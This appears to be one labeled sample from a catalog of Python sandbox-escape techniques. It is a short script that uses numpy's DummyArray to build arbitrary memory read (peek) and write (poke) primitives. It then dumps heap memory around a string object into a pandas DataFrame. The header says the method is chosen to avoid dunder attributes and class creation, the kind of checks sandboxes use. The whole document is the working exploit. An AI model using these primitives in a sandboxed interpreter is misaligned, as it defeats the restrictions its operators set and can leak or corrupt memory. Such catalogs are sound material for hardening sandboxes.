# class: numpy_memory
# technique: numpy.lib.stride_tricks.DummyArray (a public class that exists to carry an __array_interface__ dict) over a raw address: np.asarray reads the heap with no dunder and no class making
# goal: memory
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray

def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value

anchor = "anyplot"
raw = view(id(anchor) - 2048, 8192).copy()
df = pd.DataFrame({"byte": raw})
